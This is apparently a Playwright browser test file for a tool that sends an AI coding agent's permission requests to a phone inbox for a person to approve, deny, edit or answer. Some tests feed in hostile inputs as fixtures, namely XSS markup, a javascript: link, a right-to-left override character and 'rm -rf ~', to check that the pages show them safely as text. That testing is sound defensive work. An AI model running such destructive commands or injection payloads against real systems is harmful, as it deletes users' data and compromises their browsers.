"""The pages in a real browser, on a phone's screen, against the built file.

One server and one browser serve all tests; each test starts its own hooks.  Every page
is watched: a request to another host, an error or a policy violation fails the test.
With SCREENSHOTS=1 the pictures in tests/screenshots are taken anew.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from feishuperm.lib.feishu import build_permission_card
from feishuperm.models.kind import KINDS
from feishuperm.services.web_access import Links
from tests.asks import make_ask
from tests.conftest import clean_env, free_port, wait_until
from tests.fakes.card_page import card_page
from tests.served import Served, Transcript, decision, event, finish

pytestmark = pytest.mark.browser

SCREENSHOTS = Path(__file__).parent.parent / "screenshots"
BROWSER_ARGUMENTS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
# Without it the browser calls itself headless, and its taps count for nothing.
AGENT = (
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/126.0 Mobile Safari/537.36 Lark/7.30.0"
)
PHONE = {"width": 390, "height": 844}
WIDE: dict[str, Any] = {
    "viewport": {"width": 1280, "height": 800},
    "is_mobile": False,
    "has_touch": False,
}
SECONDS = 15_000  # in milliseconds: how long anything on a page may take

BUILD = {"command": "npm run build", "description": "构建前端"}
EDIT = {
    "file_path": "/srv/shop-front/src/total.js",
    "old_string": "let sum = 0;\nfor (const item of items) {\n  sum += item.price;\n}",
    "new_string": "const sum = items.reduce((all, item) => all + item.price, 0);",
    "replace_all": False,
}
COLOUR = {
    "question": "支付页面用哪种布局？",
    "header": "布局",
    "multiSelect": False,
    "options": [
        {"label": "单页", "description": "所有步骤在一页内，适合手机"},
        {"label": "分步", "description": "每一步一页，便于统计流失"},
    ],
}
SIZES = {
    "question": "需要支持哪些支付方式？",
    "header": "支付",
    "multiSelect": True,
    "options": [{"label": "微信支付"}, {"label": "支付宝"}, {"label": "银行卡"}],
}
PLAN = {"plan": "# 重构购物车\n\n1. 改 `total()`\n2. 补测试", "planFilePath": "/p/x.md"}


class Hook:
    """A running hook process and the request it waits for."""

    def __init__(self, process: subprocess.Popen[bytes], id: str, links: Links) -> None:
        self.process = process
        self.id = id
        paths = {a.name: a.path for kind in KINDS.values() for a in kind.actions}
        self.links = {name: links.path(path, id) for name, path in paths.items()}
        self.links["request"] = links.path("/request", id)

    def output(self) -> bytes:
        return self.process.communicate(timeout=20)[0]

    def decision(self) -> dict[str, Any]:
        found = json.loads(self.output())["hookSpecificOutput"]
        assert found["hookEventName"] == "PermissionRequest"
        decision: dict[str, Any] = found["decision"]
        return decision

    def waits(self) -> bool:
        return self.process.poll() is None


class Station:
    """The built file as a server, and hooks that ask it."""

    def __init__(self, pyz: Path, folder: Path, **settings: str) -> None:
        self.pyz = str(pyz)
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.project = folder / "shop-front"
        (self.project / ".git").mkdir(parents=True)
        head = "ref: refs/heads/feature/checkout\n"
        (self.project / ".git" / "HEAD").write_text(head)
        self.env = clean_env(
            folder,
            CALLBACK_SERVER_URL=self.url,
            CALLBACK_SERVER_PORT=str(self.port),
            CALLBACK_LINK_SIGNING="on",
            PERMISSION_SOCKET_PATH=str(folder / "s"),
            CLAUDE_PROJECT_DIR=str(self.project),
            **settings,
        )
        self.key = folder / ".local" / "state" / "feishuperm" / "key"
        self.hooks: list[Hook] = []
        self.start()

    def start(self) -> None:
        self.server = subprocess.Popen(
            [self.pyz, "serve"],
            env=self.env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        wait_until(self.is_up)

    def is_up(self) -> bool:
        assert self.server.poll() is None, "the server ended"
        try:
            return bool(self.get("/healthz"))
        except OSError:
            return False

    def get(self, path: str) -> str:
        with urllib.request.urlopen(self.url + path, timeout=10) as response:
            body: bytes = response.read()
        return body.decode()

    def waiting(self) -> list[str]:
        """The ids of the pending requests, oldest first."""
        return re.findall(r'id="row-([^"]+)"', self.get("/"))

    def ask(
        self, tool_name: str, tool_input: dict[str, Any], transcript: str = ""
    ) -> Hook:
        """Start a hook; returns when its request waits."""
        known = self.waiting()
        event = {
            "session_id": "5c1b0c2e-9f0d-4f7e-a1a2-7f1c2f6f9a10",
            "transcript_path": transcript,
            "cwd": str(self.project),
            "permission_mode": "default",
            "hook_event_name": "PermissionRequest",
            "tool_name": tool_name,
            "tool_input": tool_input,
        }
        process = subprocess.Popen(
            [self.pyz, "hook"],
            env=self.env,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
        )
        assert process.stdin
        process.stdin.write(json.dumps(event).encode())
        process.stdin.close()
        process.stdin = None
        new = wait_until(lambda: [id for id in self.waiting() if id not in known])
        links = Links("", self.key.read_bytes(), True)
        self.hooks.append(Hook(process, new[0], links))
        return self.hooks[-1]

    def stop(self) -> None:
        self.server.terminate()
        self.server.wait(timeout=20)

    def end_hooks(self) -> None:
        """What the client does when the person answers No in the terminal."""
        for hook in self.hooks:
            if hook.waits():
                hook.process.terminate()
            hook.process.communicate(timeout=20)
        self.hooks.clear()
        wait_until(lambda: not self.waiting())

    def close(self) -> None:
        self.end_hooks()
        self.stop()


class Phone:
    """Opens pages and keeps watch over them."""

    def __init__(self, browser: Any, url: str) -> None:
        self.browser = browser
        self.url = url
        self.contexts: list[Any] = []
        self.problems: list[str] = []
        self.posts: list[str] = []
        self.tolerated: tuple[str, ...] = ()

    def open(self, path: str = "/", **options: Any) -> Any:
        options = {"viewport": PHONE, "is_mobile": True, "has_touch": True, **options}
        context = self.browser.new_context(
            locale="zh-CN", device_scale_factor=2, user_agent=AGENT, **options
        )
        context.set_default_timeout(SECONDS)
        self.contexts.append(context)
        context.on("request", self._requested)
        page = context.new_page()
        page.on("console", self._said)
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        if path:
            page.goto(self.url + path)
        return page

    def _requested(self, request: Any) -> None:
        place = urlsplit(request.url)
        if place.scheme != "data" and f"http://{place.netloc}" != self.url:
            self.problems.append(f"asked {request.url}")
        if request.method == "POST":
            self.posts.append(place.path)

    def _said(self, message: Any) -> None:
        if message.type in ("error", "warning"):
            self.problems.append(message.text)

    def close(self) -> None:
        for context in self.contexts:
            context.close()
        found = [
            problem
            for problem in self.problems
            if not any(text in problem for text in self.tolerated)
        ]
        assert found == []


@pytest.fixture(scope="module")
def server(pyz: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Station]:
    station = Station(pyz, tmp_path_factory.mktemp("b"))
    yield station
    station.close()


@pytest.fixture
def station(server: Station) -> Iterator[Station]:
    """The server with nothing waiting, before and after."""
    yield server
    server.end_hooks()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        found = playwright.chromium.launch(
            executable_path=shutil.which("chromium"), args=BROWSER_ARGUMENTS
        )
        yield found
        found.close()


@pytest.fixture
def phone(browser: Any, station: Station) -> Iterator[Phone]:
    device = Phone(browser, station.url)
    yield device
    device.close()


def card(page: Any, hook: Hook) -> Any:
    """The request's row in the inbox."""
    return page.locator(f"#row-{hook.id}")


def short(place: Any, label: str) -> Any:
    """A button of a row; its name says what it is about, too."""
    return place.get_by_role("button", name=f"{label} ")


def beside(page: Any, hook: Hook) -> Any:
    """The request beside the list of a wide screen, after a click on its row."""
    card(page, hook).locator(".what").click()
    place = page.locator(f"#pane [data-id='{hook.id}']")
    place.wait_for()
    return place


def unfold(place: Any) -> None:
    place.locator(".more > summary").click()


def button(place: Any, label: str) -> Any:
    return place.get_by_role("button", name=label, exact=True)


def expect_text(page: Any, *texts: str) -> None:
    for expected in texts:
        page.get_by_text(expected).first.wait_for()


def take(page: Any, name: str, tmp_path: Path, height: int = 844) -> None:
    """A picture: for the README when asked to, else to see that it can be taken."""
    folder = SCREENSHOTS if os.environ.get("SCREENSHOTS") else tmp_path
    page.set_viewport_size({"width": 390, "height": height})
    page.screenshot(path=folder / f"{name}.png")
    assert (folder / f"{name}.png").stat().st_size > 10_000


# The inbox.


def test_tap_on_allow_in_the_inbox_lets_the_hook_print_allow(
    station: Station, phone: Phone
) -> None:
    page = phone.open()
    hook = station.ask("Bash", BUILD)
    expect_text(card(page, hook), "npm run build", "shop-front · feature/checkout")
    assert page.title().startswith("(")
    short(card(page, hook), "批准").tap()
    expect_text(card(page, hook), "已批准运行")
    assert hook.decision() == {"behavior": "allow"}
    expect_text(page.locator("#recent"), "已批准运行", "npm run build")


def test_typed_reason_reaches_the_model(station: Station, phone: Phone) -> None:
    hook = station.ask("Bash", BUILD)
    page = phone.open(**WIDE)
    place = beside(page, hook)
    unfold(place)
    place.get_by_label("拒绝理由").fill("先跑测试")
    button(place, "拒绝运行").click()
    assert hook.decision() == {
        "behavior": "deny",
        "message": "用户在收件箱拒绝：先跑测试",
    }
    expect_text(card(page, hook), "先跑测试")


EDITED = " npm run build \\\n  --if-present\n"


def test_command_edited_in_the_inbox_runs_as_typed(
    station: Station, phone: Phone
) -> None:
    hook = station.ask("Bash", BUILD)
    page = phone.open(**WIDE)
    place = beside(page, hook)
    unfold(place)
    area = place.locator("textarea")
    assert area.input_value() == BUILD["command"]
    area.fill(EDITED)
    for label in ("批准运行", "始终允许", "10 分钟内允许"):
        button(place, label).click()
        expect_text(place, "命令已修改，请点“修改后批准”")
    assert phone.posts == [] and hook.waits()
    button(place, "修改后批准").click()
    assert hook.decision()["updatedInput"] == {**BUILD, "command": EDITED}
    expect_text(page.locator("#recent"), "已修改后批准")


@pytest.mark.parametrize("scripts", [True, False])
def test_command_edited_on_its_page_runs_as_typed(
    station: Station, phone: Phone, scripts: bool
) -> None:
    hook = station.ask("Bash", BUILD)
    phone.tolerated = ("status of 400",)
    page = phone.open(hook.links["request"], java_script_enabled=scripts)
    page.locator("summary").tap()
    page.locator("textarea").fill(EDITED)
    button(page, "批准运行").tap()
    expect_text(page, "命令已修改，请点“修改后批准”")
    assert page.locator("textarea").input_value() == EDITED
    assert hook.waits()
    button(page, "修改后批准").tap()
    expect_text(page, "操作成功", "已修改后批准", "--if-present")
    assert hook.decision()["updatedInput"] == {**BUILD, "command": EDITED}


def test_deny_and_interrupt_ends_the_turn(station: Station, phone: Phone) -> None:
    hook = station.ask("Bash", BUILD)
    page = phone.open(**WIDE)
    button(beside(page, hook), "拒绝并中断").click()
    decision = hook.decision()
    assert decision["interrupt"] is True
    assert decision["message"] == "用户在收件箱拒绝并中断"


def test_always_shows_the_exact_rule_before_and_after(
    station: Station, phone: Phone
) -> None:
    command = "npm run lint -- --fix 'a b' <x>"
    rule = f"Bash({command})"
    hook = station.ask("Bash", {"command": command})
    page = phone.open(**WIDE)
    place = beside(page, hook)
    unfold(place)
    expect_text(place.locator(".more"), rule)
    button(place, "始终允许").click()
    expect_text(place.locator(".outcome"), "已始终允许", rule)
    assert hook.decision()["behavior"] == "allow"
    settings = station.project / ".claude" / "settings.local.json"
    assert rule in json.loads(settings.read_text())["permissions"]["allow"]


def test_second_tap_on_the_same_button_is_not_sent(
    station: Station, phone: Phone
) -> None:
    hook = station.ask("Bash", BUILD)
    page = phone.open()
    allow = short(card(page, hook), "批准")
    allow.evaluate("button => { button.click(); button.click(); button.click(); }")
    expect_text(card(page, hook), "已批准运行")
    assert phone.posts == ["/allow"]
    assert hook.decision()["behavior"] == "allow"


def test_decision_on_one_page_shows_on_the_other(
    station: Station, phone: Phone
) -> None:
    hook = station.ask("Bash", BUILD)
    first, second = phone.open(), phone.open()
    card(second, hook).wait_for()
    short(card(first, hook), "批准").tap()
    expect_text(card(second, hook), "已批准运行")
    assert card(second, hook).locator("button:visible").count() == 0
    card(second, hook).wait_for(state="detached")
    assert hook.decision()["behavior"] == "allow"


def test_settled_card_keeps_its_place_for_a_moment(
    station: Station, phone: Phone
) -> None:
    first, second = station.ask("Bash", BUILD), station.ask("Edit", EDIT)
    page = phone.open()
    before = card(page, second).bounding_box()["y"]
    short(card(page, first), "批准").tap()
    expect_text(card(page, first), "已批准运行")
    after = card(page, second).bounding_box()["y"] + page.evaluate("scrollY")
    assert after == pytest.approx(before, abs=0.1)
    assert second.waits()


def test_keyboard_alone_decides_and_never_by_the_first_key(
    station: Station, phone: Phone
) -> None:
    hooks = [station.ask("Bash", {"command": f"echo {number}"}) for number in "123"]
    page = phone.open(viewport={"width": 1100, "height": 800}, is_mobile=False)
    card(page, hooks[0]).wait_for()
    page.keyboard.press("a")
    assert "selected" in card(page, hooks[0]).get_attribute("class")
    assert phone.posts == []
    page.keyboard.press("j")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("k")
    page.locator(f"#pane [data-id='{hooks[1].id}']").wait_for()
    page.keyboard.press("r")
    page.keyboard.type("aawd?")
    page.keyboard.press("Enter")
    assert hooks[1].decision()["message"] == "用户在收件箱拒绝：aawd?"
    page.wait_for_timeout(700)  # taps and keys rest while cards settle
    page.keyboard.press("ArrowUp")
    page.keyboard.press("a")
    assert hooks[0].decision()["behavior"] == "allow"
    page.keyboard.press("?")
    page.locator("#help .muted").wait_for()
    page.keyboard.press("a")
    page.keyboard.press("Escape")
    page.locator("#help .muted").wait_for(state="hidden")
    assert hooks[2].waits()
    assert phone.posts == ["/deny", "/allow"]


def test_row_of_a_long_request_opens_its_page(station: Station, phone: Phone) -> None:
    content = "\n".join(f"line {number}" for number in range(90))
    hook = station.ask("Write", {"file_path": "/p/a.txt", "content": content})
    page = phone.open()
    assert card(page, hook).get_by_role("button").count() == 0
    card(page, hook).get_by_role("link", name="查看").tap()
    page.wait_for_url("**/request?*")
    assert "line 45" in page.locator("pre.code").inner_text()
    page.get_by_role("link", name="收件箱").tap()
    card(page, hook).wait_for()


def test_arrival_is_announced_to_screen_readers(station: Station, phone: Phone) -> None:
    page = phone.open()
    expect_text(page, "实时")
    station.ask("Bash", BUILD)
    news = page.locator("#news[aria-live=polite]")
    wait_until(lambda: "新的请求：Bash · shop-front" in news.text_content())


def test_inbox_says_when_the_server_is_away_and_recovers(
    pyz: Path, browser: Any, tmp_path: Path
) -> None:
    station = Station(pyz, tmp_path)
    phone = Phone(browser, station.url)
    phone.tolerated = ("Failed to load resource", "ERR_")
    try:
        page = phone.open()
        expect_text(page, "实时", "现在没有等待处理的请求", "会立刻出现在这里")
        hook = station.ask("Bash", BUILD)
        card(page, hook).wait_for()
        station.server.kill()  # as a crash: its hook waits for the next one
        station.server.wait(timeout=20)
        expect_text(page, "已断开，重连中")
        station.start()
        wait_until(station.waiting)
        expect_text(page.locator("#state"), "实时")
        expect_text(card(page, hook), "npm run build")
        page.locator("#waiting:not(.still)").wait_for()
        short(card(page, hook), "批准").tap()
        assert hook.decision()["behavior"] == "allow"
    finally:
        phone.close()
        station.close()


def test_inbox_opens_from_elsewhere_by_the_link_of_status_only(
    pyz: Path, browser: Any, home: Path
) -> None:
    """The link lets this browser in, and no other."""
    public = {
        "CALLBACK_SERVER_URL": "http://box.example.test",
        "CALLBACK_SERVER_HOST": "127.0.0.1",
    }
    with Served(pyz, home, **public) as served:
        phone = Phone(browser, f"http://127.0.0.1:{served.port}")
        phone.tolerated = ("status of 403",)
        process, _ = served.ask(event("Bash", **BUILD))
        page = phone.open("/")
        expect_text(page, "无法打开", "feishuperm status")
        assert "npm" not in page.content()
        page.goto(f"{phone.url}/?{way_in(served)}")
        expect_text(page, "npm run build")
        assert urlsplit(page.url).query == ""
        late, _ = served.ask(event("Bash", command="ls"))  # arrives by the stream
        page.locator(".row").nth(1).wait_for()
        for _ in range(2):
            page.locator("#waiting:not(.still)").wait_for()
            page.get_by_role("button", name="批准").first.tap()
        assert decision(finish(process))["behavior"] == "allow"
        assert decision(finish(late))["behavior"] == "allow"
        expect_text(phone.open("/"), "无法打开")
        phone.close()


def way_in(served: Served) -> str:
    """The query of the link that `status` prints."""
    status = subprocess.run(
        [served.pyz, "status", "--json"],
        env=served.environ,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=20,
    )
    query: str = json.loads(status.stdout)["inbox"].partition("?")[2]
    return query


def test_browser_without_a_person_decides_nothing_by_a_link(
    station: Station, browser: Any
) -> None:
    """As a link scanner's; its visit shows the page, whose button would decide."""
    hook = station.ask("Bash", BUILD)
    context = browser.new_context()
    page = context.new_page()
    page.goto(station.url + hook.links["allow"])
    expect_text(page, "请确认操作")
    assert hook.waits()
    context.close()


# Links of a card.


def test_link_of_a_card_decides_once_and_reload_and_back_are_safe(
    station: Station, phone: Phone, tmp_path: Path
) -> None:
    """Scenario: 显示操作成功页面"""
    hook = station.ask("Bash", BUILD)
    page = phone.open(hook.links["allow"])
    expect_text(page, "操作成功", "已批准运行", "shop-front")
    take(page, "result", tmp_path, 450)
    assert hook.decision()["behavior"] == "allow"
    page.reload()
    expect_text(page, "请求无效或已过期", "已批准运行", "网页")
    page.goto(station.url + hook.links["interrupt"])
    expect_text(page, "请求无效或已过期", "已批准运行")
    page.go_back()
    expect_text(page, "请求无效或已过期", "已批准运行")


def test_wrong_link_shows_invalid_page(station: Station, phone: Phone) -> None:
    """Scenario: 显示请求无效页面"""
    phone.tolerated = ("status of 404",)
    page = phone.open("/allow?id=1700000000-ffffffff&sig=no")
    expect_text(page, "请求无效或已过期")


def test_tap_after_the_timeout_shows_expired_page(
    pyz: Path, browser: Any, tmp_path: Path
) -> None:
    """Scenario: 超时后按钮点击处理"""
    station = Station(pyz, tmp_path, PERMISSION_REQUEST_TIMEOUT="9")
    phone = Phone(browser, station.url)
    try:
        page = phone.open()
        hook = station.ask("Bash", BUILD)
        whole = phone.open(hook.links["request"])
        assert hook.decision()["message"] == "权限请求超时，自动拒绝"
        expect_text(card(page, hook), "已超时，自动拒绝")
        expect_text(whole, "时间已到")
        assert button(whole, "批准运行").is_disabled()
        late = phone.open(hook.links["allow"])
        expect_text(late, "请求无效或已过期", "请求已过期", "自动拒绝")
        whole.reload()
        expect_text(whole, "请求已过期", "npm run build")
        assert whole.locator("button").count() == 0
    finally:
        phone.close()
        station.close()


def test_link_decides_nothing_by_itself_when_confirmation_is_on(
    pyz: Path, browser: Any, tmp_path: Path
) -> None:
    station = Station(pyz, tmp_path, CALLBACK_CONFIRM="on")
    phone = Phone(browser, station.url)
    try:
        hook = station.ask("Bash", BUILD)
        page = phone.open(hook.links["always"])
        expect_text(page, "请确认操作", "Bash(npm run build)")
        page.reload()
        assert hook.waits()
        button(page, "始终允许").tap()
        expect_text(page, "操作成功", "已始终允许", "Bash(npm run build)")
        assert hook.decision()["behavior"] == "allow"
    finally:
        phone.close()
        station.close()


@pytest.mark.parametrize("scripts", [True, False])
def test_who_says_that_they_read_gets_more_time(
    pyz: Path, browser: Any, tmp_path: Path, scripts: bool
) -> None:
    times = {"PERMISSION_REQUEST_TIMEOUT": "60", "PERMISSION_HOLD": "600"}
    station = Station(pyz, tmp_path, **times)
    phone = Phone(browser, station.url)
    try:
        hook = station.ask("Bash", BUILD)
        if scripts:
            page = phone.open(**WIDE)
            unfold(beside(page, hook))
            button(page, "我在看").click()
            button(page, "我在看").wait_for(state="detached")
            time_left = card(page, hook).locator(".left")
            time_left.filter(has_text=re.compile("1[01]:")).wait_for()
        else:  # opening its page is reading
            page = phone.open(hook.links["request"], java_script_enabled=False)
            expect_text(page, "批准运行")
            page = phone.open(hook.links["request"], java_script_enabled=False)
            assert button(page, "我在看").count() == 0
        assert hook.waits()
        button(page, "批准运行").first.click()
        assert hook.decision()["behavior"] == "allow"
    finally:
        phone.close()
        station.close()


# A request's own page.


@pytest.mark.parametrize("scripts", [True, False])
def test_request_page_decides_with_and_without_scripts(
    station: Station, phone: Phone, scripts: bool
) -> None:
    hook = station.ask("Edit", EDIT)
    page = phone.open(hook.links["request"], java_script_enabled=scripts)
    expect_text(page, "剩余" if scripts else "前操作", "+const sum")
    unfold(page)
    page.get_by_label("拒绝理由").fill("保留循环")
    button(page, "拒绝运行").tap()
    expect_text(page, "操作成功", "已拒绝运行", "保留循环")
    assert hook.decision()["message"] == "用户通过飞书拒绝：保留循环"
    page.go_back()
    expect_text(page, "已拒绝运行", "+const sum")
    assert page.locator("button").count() == 0


@pytest.mark.parametrize("scripts", [True, False])
def test_questions_are_answered_by_choice_and_own_words(
    station: Station, phone: Phone, scripts: bool
) -> None:
    questions = [COLOUR, SIZES, {**COLOUR, "question": "还有吗？"}]
    hook = station.ask("AskUserQuestion", {"questions": questions})
    page = phone.open(hook.links["answer"], java_script_enabled=scripts)
    groups = page.get_by_role("group")
    groups.nth(0).get_by_text("分步", exact=True).tap()
    groups.nth(1).get_by_text("微信支付").tap()
    groups.nth(1).get_by_text("银行卡").tap()
    groups.nth(1).get_by_label("其他（自己填写）").fill("数字人民币")
    groups.nth(2).get_by_text("单页", exact=True).tap()
    groups.nth(2).get_by_label("其他（自己填写）").fill("没有了")
    button(page, "提交").tap()
    expect_text(page, "操作成功", "已提交回答")
    decision = hook.decision()
    assert decision["behavior"] == "allow"
    assert decision["updatedInput"]["questions"] == questions
    assert decision["updatedInput"]["answers"] == {
        "支付页面用哪种布局？": "分步",
        "需要支持哪些支付方式？": "微信支付, 银行卡, 数字人民币",
        "还有吗？": "没有了",
    }


def test_empty_answer_is_asked_for_again(station: Station, phone: Phone) -> None:
    phone.tolerated = ("status of 400",)
    hook = station.ask("AskUserQuestion", {"questions": [COLOUR]})
    page = phone.open()
    card(page, hook).get_by_role("link", name="查看").tap()
    unfold(page)
    button(page, "提交").tap()
    expect_text(page, "请至少回答一个问题")
    assert hook.waits()
    page.get_by_text("单页", exact=True).tap()
    expect_text(page, "已提交回答", "支付页面用哪种布局？：单页")
    answers = hook.decision()["updatedInput"]["answers"]
    assert answers == {"支付页面用哪种布局？": "单页"}
    page.get_by_role("link", name="收件箱").tap()
    expect_text(page.locator("#recent"), "已提交回答", "支付页面用哪种布局？：单页")


@pytest.mark.parametrize("scripts", [True, False])
def test_single_choice_is_one_tap_on_the_page(
    station: Station, phone: Phone, scripts: bool
) -> None:
    hook = station.ask("AskUserQuestion", {"questions": [COLOUR]})
    page = phone.open(hook.links["answer"], java_script_enabled=scripts)
    page.get_by_role("button", name="分步").tap()
    expect_text(page, "操作成功", "已提交回答", "支付页面用哪种布局？：分步")
    answers = hook.decision()["updatedInput"]["answers"]
    assert answers == {"支付页面用哪种布局？": "分步"}


def test_own_words_and_enter_never_mean_the_first_option(
    station: Station, phone: Phone
) -> None:
    hook = station.ask("AskUserQuestion", {"questions": [COLOUR]})
    page = phone.open(hook.links["answer"])
    unfold(page)
    page.get_by_label("其他（自己填写）").fill("两个都要")
    page.keyboard.press("Enter")
    expect_text(page, "已提交回答")
    answers = hook.decision()["updatedInput"]["answers"]
    assert answers == {"支付页面用哪种布局？": "两个都要"}


def test_single_choice_is_one_click_or_one_key_in_the_inbox(
    station: Station, phone: Phone
) -> None:
    first = station.ask("AskUserQuestion", {"questions": [COLOUR]})
    second = station.ask("AskUserQuestion", {"questions": [COLOUR]})
    page = phone.open(**WIDE)
    expect_text(card(page, first), "提问", "支付页面用哪种布局？")
    assert "AskUserQuestion" not in page.locator("main").inner_text()
    beside(page, first).get_by_role("button", name="单页").click()
    expect_text(card(page, first), "已提交回答")
    answers = first.decision()["updatedInput"]["answers"]
    assert answers == {"支付页面用哪种布局？": "单页"}
    card(page, first).wait_for(state="detached")
    page.wait_for_timeout(700)  # taps and keys rest while rows settle
    page.locator(f"#pane [data-id='{second.id}']").wait_for()
    page.keyboard.press("2")
    assert second.waits()  # the first key only shows what the next is about
    page.keyboard.press("2")
    answers = second.decision()["updatedInput"]["answers"]
    assert answers == {"支付页面用哪种布局？": "分步"}


HOSTILE_PLAN = """# 计划 <img src=x onerror=document.title=1>

- **粗** `</code><script>document.title=2</script>`
- [x] [点我](javascript:document.title=3)

| a | <b>b</b> |
|---|---|
| 1 | ![i](http://evil.test/x.png) |

```</pre><script>
</script><style>*{display:none}</style>
```
<!-- rm -rf ~ -->"""


@pytest.mark.parametrize("path", ["/", "request"])
def test_plan_is_drawn_and_nothing_of_it_is_markup(
    station: Station, phone: Phone, path: str
) -> None:
    hook = station.ask("ExitPlanMode", {"plan": HOSTILE_PLAN})
    page = phone.open(hook.links.get(path, path), **WIDE)
    plan = page.locator(".markdown")
    expect_text(plan, "计划 <img src=x", "<!-- rm -rf ~ -->", "</pre><script>")
    assert plan.locator("table tr").count() == 2
    assert plan.get_by_role("heading", level=3).count() == 1
    assert plan.get_by_role("listitem").count() == 2
    assert plan.locator("img, script, style, a").count() == 0
    assert not page.title().isdigit()


def test_plan_is_approved(station: Station, phone: Phone) -> None:
    hook = station.ask("ExitPlanMode", PLAN)
    page = phone.open(hook.links["request"])
    expect_text(page, "重构购物车")
    button(page, "批准计划").tap()
    expect_text(page, "操作成功", "已批准计划")
    decision = hook.decision()
    assert decision["behavior"] == "allow"
    assert "updatedInput" in decision


def test_plan_is_rejected_with_a_reason(station: Station, phone: Phone) -> None:
    hook = station.ask("ExitPlanMode", PLAN)
    page = phone.open(**WIDE)
    place = beside(page, hook)
    place.locator("input[name=reason]").fill("太大")
    button(place, "退回计划").click()
    expect_text(card(page, hook), "已退回计划")
    assert hook.decision()["message"] == "用户在收件箱拒绝：太大"


# Looks.


def test_hostile_text_is_shown_and_never_runs(station: Station, phone: Phone) -> None:
    hostile = "echo '</script><img src=x onerror=document.title=1>' \u202e; rm -rf ~"
    hook = station.ask("Bash", {"command": hostile})
    for path in ("/", hook.links["request"]):
        page = phone.open(path)
        expect_text(page, "onerror=document.title=1", "⟦U+202E⟧; rm -rf ~")
        assert page.locator("img").count() == 0
    page = phone.open(hook.links["deny"])
    expect_text(page, "已拒绝运行")
    assert hook.decision()["behavior"] == "deny"


def test_nothing_is_too_wide_or_too_small_for_a_thumb(
    station: Station, phone: Phone
) -> None:
    wide = {"command": "x" * 300, "description": "y" * 300}
    asked = station.ask("AskUserQuestion", {"questions": [COLOUR, SIZES]})
    hooks = [station.ask("Bash", wide), station.ask("Edit", EDIT), asked]
    paths = ["/", *(hook.links["request"] for hook in hooks)]
    for path in paths:
        page = phone.open(path, viewport={"width": 360, "height": 740})
        page.locator("button:visible, .row").first.wait_for()
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
        targets = page.locator(
            "button:visible, a:visible, .option:visible, summary:visible"
        )
        for box in (target.bounding_box() for target in targets.all()):
            assert box["height"] >= 44
            assert box["width"] >= 44


def test_pictures_for_the_readme(
    station: Station, phone: Phone, tmp_path: Path
) -> None:
    # A folder that is not there: the paths in the pictures shall look like a person's.
    station.env["CLAUDE_PROJECT_DIR"] = "/srv/shop-front"
    station.ask("Bash", {**BUILD, "description": "构建前端，检查产物大小"})
    edit = station.ask("Edit", EDIT)
    asked = station.ask("AskUserQuestion", {"questions": [COLOUR, SIZES]})
    station.env["CLAUDE_PROJECT_DIR"] = str(station.project)
    page = phone.open()
    expect_text(page, "实时", "npm run build")
    take(page, "inbox", tmp_path)
    dark = phone.open(color_scheme="dark")
    expect_text(dark, "实时", "npm run build")
    background = "getComputedStyle(document.body).backgroundColor"
    assert dark.evaluate(background) != page.evaluate(background)
    take(dark, "inbox-dark", tmp_path)
    take(phone.open(edit.links["request"]), "request", tmp_path)
    take(phone.open(asked.links["answer"]), "answer", tmp_path)
    take_card(phone, tmp_path)


def take_card(phone: Phone, tmp_path: Path) -> None:
    """An illustration of the card: its JSON, drawn by us and not by Feishu."""
    ask = make_ask(
        "Bash",
        {**BUILD},
        id="1763265600-0badcafe",
        project="/srv/shop-front",
        branch="feature/checkout",
        session="5c1b0c2e-9f0d",
        created=1763265600.0,
    )
    page = phone.open("")
    card = build_permission_card(ask, lambda path, id: f"{phone.url}{path}?id={id}")
    page.set_content(card_page(card))
    take(page, "card", tmp_path, 600)


# After the decision.


@pytest.fixture
def transcript(tmp_path: Path) -> Transcript:
    return Transcript(tmp_path)


def test_why_is_said_and_the_result_follows_by_itself(
    station: Station, phone: Phone, transcript: Transcript
) -> None:
    transcript.call("先构建一次看看。", **BUILD)
    hook = station.ask("Bash", BUILD, str(transcript.path))
    inbox, page = phone.open(**WIDE), phone.open(hook.links["request"])
    for place in (beside(inbox, hook), page):
        unfold(place)
        expect_text(place, "先构建一次看看。", "修好构建")
    button(page, "批准运行").tap()
    expect_text(page, "操作成功", "已批准运行")
    assert hook.decision()["behavior"] == "allow"
    assert not page.locator("#result").is_visible()
    transcript.result("Exit code 3\nboom", is_error=True)
    expect_text(page.locator("#result"), "失败（退出码 3）")
    expect_text(inbox.locator("#recent"), "失败（退出码 3）", "npm run build")


def test_inbox_keeps_what_is_typed_and_the_focus_when_more_is_known(
    station: Station, phone: Phone, transcript: Transcript
) -> None:
    hook = station.ask("Bash", BUILD, str(transcript.path))
    page = phone.open(**WIDE)
    place = beside(page, hook)
    unfold(place)
    place.locator("textarea").fill("npm run build --later")
    field = place.get_by_label("拒绝理由")
    field.press_sequentially("我还没")
    transcript.call("先构建 <b>一次</b> 看看。", **BUILD)
    expect_text(place, "先构建 <b>一次</b> 看看。")
    page.keyboard.type("写完")
    assert field.input_value() == "我还没写完"
    assert place.locator("textarea").input_value() == "npm run build --later"
    assert place.locator("details[open]").count() == 1
    button(place, "拒绝运行").click()
    assert hook.decision()["message"] == "用户在收件箱拒绝：我还没写完"


def test_page_of_a_request_keeps_what_was_typed_when_it_ends_elsewhere(
    station: Station, phone: Phone, transcript: Transcript
) -> None:
    transcript.call("先构建一次看看。", **BUILD)
    hook = station.ask("Bash", BUILD, str(transcript.path))
    page = phone.open(hook.links["request"])
    unfold(page)
    field = page.get_by_label("拒绝理由")
    field.fill("我还没写完")
